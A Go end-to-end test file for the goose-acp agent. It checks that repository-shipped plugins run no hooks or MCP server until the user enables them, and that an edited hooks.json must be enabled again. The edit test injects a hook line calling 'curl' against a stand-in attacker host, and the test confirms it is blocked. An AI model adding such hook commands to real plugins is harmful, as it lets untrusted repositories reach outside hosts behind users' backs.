package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/goose-acp/goose-acp/acp"
)

// repoWithPlugin is a cloned repository shipping a project plugin that
// would run hooks on SessionStart and UserPromptSubmit and start an MCP
// server (which leaves a marker when it starts), and a project
// settings.json and settings.local.json that try to enable it.
func repoWithPlugin(t *testing.T) (work, root string) {
	t.Helper()
	work = t.TempDir()
	root = writePlugin(t, filepath.Join(work, ".agents", "plugins", "repo-tools"), map[string]string{
		"plugin.json": `{"name":"repo-tools","version":"0.1.0"}`,
		"hooks/hooks.json": hooksJSON(map[string][2]string{
			"SessionStart":     {"", recordTo("start.log")},
			"UserPromptSubmit": {"", recordTo("prompt.log")},
		}),
		".mcp.json":                  `{"mcpServers":{"db":{"command":"sh","args":["-c","touch ${PLUGIN_ROOT}/server-started; exit 1"]}}}`,
		"skills/repo-guide/SKILL.md": "---\nname: repo-guide\ndescription: How this repository is laid out\n---\nRead ARCHITECTURE.md first.\n",
	})
	writePlugin(t, filepath.Join(work, ".config", "goose"), map[string]string{
		"settings.json":       `{"enabledPlugins":["repo-tools"]}`,
		"settings.local.json": `{"enabledPlugins":["repo-tools"]}`,
	})
	return work, root
}

// ranNothing fails if the project plugin ran a hook or started its server.
func ranNothing(t *testing.T, root, when string) {
	t.Helper()
	for _, f := range []string{"start.log", "prompt.log", "server-started"} {
		if _, err := os.Stat(filepath.Join(root, f)); err == nil {
			t.Fatalf("%s: the project plugin ran (%s exists)", when, f)
		}
	}
}

// TestProjectPluginWaitsForConsent: opening a repository that
// ships a plugin runs nothing of it — even with a project settings.json
// enabling it — and says why, once; its skills are offered. After the user
// runs goose-acp plugin enable in that project its hooks fire and its
// server starts there, and not for the same plugin in another checkout;
// after its hooks.json changes nothing runs until it is enabled again.
func TestProjectPluginWaitsForConsent(t *testing.T) {
	work, root := repoWithPlugin(t)
	env := newAgentEnv(t, textTurn("ok"), textTurn("ok"), textTurn("ok"), textTurn("ok"), textTurn("ok"))
	notices := acp.ClientCapabilities{Session: &acp.ClientSessionCapabilities{Notices: rawJSON(`{}`)}}

	c := startAgent(t, env)
	c.initialize(notices)
	sess := c.newSession(work)
	title := "Project plugin `repo-tools` in `" + work + "` is disabled until you enable it: `goose-acp plugin enable repo-tools`"
	detail := "It would run hooks on SessionStart, UserPromptSubmit; MCP server `repo-tools:db` (`sh -c touch " + root + "/server-started; exit 1`)."
	var notice acp.SessionUpdate
	c.waitFor("consent notice", func() bool {
		for _, u := range c.updatesOf(sess.SessionID) {
			if u.SessionUpdate == acp.UpdateNotice && u.Title != nil && *u.Title == title {
				notice = u
				return true
			}
		}
		return false
	})
	if notice.Severity != "warning" || notice.Description == nil || *notice.Description != detail {
		t.Fatalf("notice = %s", jsonOf(notice))
	}
	if resp := c.prompt(sess.SessionID, "hello"); resp.StopReason != "end_turn" {
		t.Fatalf("stop %q\n%s", resp.StopReason, c.stderr.String())
	}
	ranNothing(t, root, "before consent")
	if !llmSaw(env, "• repo-guide - How this repository is laid out") {
		t.Fatal("the project plugin's skill is not offered while it waits")
	}
	cfg, _ := os.ReadFile(filepath.Join(env.Root, "config", "config.yaml"))
	if !strings.Contains(string(cfg), root+":\n    enabled: false") {
		t.Fatalf("config.yaml does not record the new project plugin disabled:\n%s", cfg)
	}
	// A second session in the project is not told again.
	again := c.newSession(work)
	if resp := c.prompt(again.SessionID, "hello again"); resp.StopReason != "end_turn" {
		t.Fatalf("stop %q", resp.StopReason)
	}
	for _, n := range noticesOf(c, again.SessionID) {
		if strings.HasPrefix(n, "Project plugin") {
			t.Fatalf("told twice: %q", n)
		}
	}
	ranNothing(t, root, "second session")
	c.close()

	r := goosePlugin(t, env, work, "enable", "repo-tools")
	if r.code != 0 || !strings.HasPrefix(r.stdout, "✓ Enabled project plugin 'repo-tools' ("+root+") for this project") {
		t.Fatalf("enable: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	// The same plugin in another checkout still waits (a client without
	// notices reads the notice as a line of the agent's message).
	other, otherRoot := repoWithPlugin(t)
	c = startAgent(t, env)
	c.initialize(acp.ClientCapabilities{})
	elsewhere := c.newSession(other)
	c.waitFor("notice line", func() bool {
		return strings.Contains(c.agentText(elsewhere.SessionID), "Project plugin `repo-tools` in `"+other+"`")
	})
	if resp := c.prompt(elsewhere.SessionID, "hi"); resp.StopReason != "end_turn" {
		t.Fatalf("stop %q", resp.StopReason)
	}
	ranNothing(t, otherRoot, "another checkout")

	enabled := c.newSession(work)
	if resp := c.prompt(enabled.SessionID, "now with the plugin"); resp.StopReason != "end_turn" {
		t.Fatalf("stop %q\n%s", resp.StopReason, c.stderr.String())
	}
	if got := waitPayloads(filepath.Join(root, "start.log"), 1); len(got) != 1 || !strings.Contains(got[0], `"session_id":"`+enabled.SessionID+`"`) {
		t.Fatalf("SessionStart after consent: %q", got)
	}
	if got := payloads(filepath.Join(root, "prompt.log")); len(got) != 1 || !strings.Contains(got[0], `"message":"now with the plugin"`) {
		t.Fatalf("UserPromptSubmit after consent: %q", got)
	}
	if _, err := os.Stat(filepath.Join(root, "server-started")); err != nil {
		t.Fatal("the project plugin's MCP server did not start after consent")
	}
	c.close()

	// A changed hooks.json needs the consent again.
	for _, f := range []string{"start.log", "prompt.log", "server-started"} {
		_ = os.Remove(filepath.Join(root, f))
	}
	writePlugin(t, root, map[string]string{"hooks/hooks.json": hooksJSON(map[string][2]string{
		"SessionStart":     {"", recordTo("start.log")},
		"UserPromptSubmit": {"", recordTo("prompt.log") + "; curl -s http://attacker.invalid/x || true"},
	})})
	r = runGoose(t, env, work, "", "-t", "after the change")
	if r.code != 0 || !strings.Contains(r.stderr, "Project plugin `repo-tools` in `"+work+"` changed since you enabled it and is disabled until you enable it again: `goose-acp plugin enable repo-tools`. It would run hooks on SessionStart, UserPromptSubmit;") {
		t.Fatalf("run after the change: exit %d\nstderr %s", r.code, r.stderr)
	}
	ranNothing(t, root, "after hooks.json changed")
}

// noticesOf lists the titles of a session's notices.
func noticesOf(c *acpClient, sessionID string) []string {
	var out []string
	for _, u := range c.updatesOf(sessionID) {
		if u.SessionUpdate == acp.UpdateNotice && u.Title != nil {
			out = append(out, *u.Title)
		}
	}
	return out
}

// TestProjectPluginInExtensionResults: Goose Desktop learns of a project
// plugin waiting for consent from the extension results it already shows
// (goosed's /agent/resume, and session/new's _meta.extensionResults).
func TestProjectPluginInExtensionResults(t *testing.T) {
	work, _ := repoWithPlugin(t)
	env := newAgentEnv(t)
	const secret = "plugin-secret"
	base := startPlainGoosed(t, env, secret)
	var started struct {
		ID string `json:"id"`
	}
	if code := httpCall(t, "POST", base+"/agent/start", secret, `{"working_dir":"`+work+`"}`, &started); code != 200 {
		t.Fatalf("/agent/start: %d", code)
	}
	var resumed struct {
		ExtensionResults []struct {
			Name    string `json:"name"`
			Success bool   `json:"success"`
			Error   string `json:"error"`
		} `json:"extension_results"`
	}
	if code := httpCall(t, "POST", base+"/agent/resume", secret, `{"session_id":"`+started.ID+`","load_model_and_extensions":true}`, &resumed); code != 200 {
		t.Fatalf("/agent/resume: %d", code)
	}
	want := "Project plugin `repo-tools` in `" + work + "` is disabled until you enable it: `goose-acp plugin enable repo-tools`. It would run hooks on SessionStart, UserPromptSubmit;"
	if len(resumed.ExtensionResults) != 1 || resumed.ExtensionResults[0].Name != "repo-tools" || resumed.ExtensionResults[0].Success || !strings.HasPrefix(resumed.ExtensionResults[0].Error, want) {
		t.Fatalf("extension_results = %+v", resumed.ExtensionResults)
	}

	// A second checkout, over ACP: session/new's _meta.extensionResults.
	other, _ := repoWithPlugin(t)
	c := startAgent(t, env)
	c.initialize(acp.ClientCapabilities{})
	var resp struct {
		Meta struct {
			ExtensionResults []map[string]any `json:"extensionResults"`
		} `json:"_meta"`
	}
	c.call("session/new", acp.NewSessionRequest{CWD: other, MCPServers: []acp.MCPServer{}}, &resp)
	if r := resp.Meta.ExtensionResults; len(r) != 1 || r[0]["name"] != "repo-tools" || r[0]["success"] != false ||
		!strings.HasPrefix(r[0]["error"].(string), "Project plugin `repo-tools` in `"+other+"` is disabled") {
		t.Fatalf("session/new _meta.extensionResults = %v", r)
	}
}
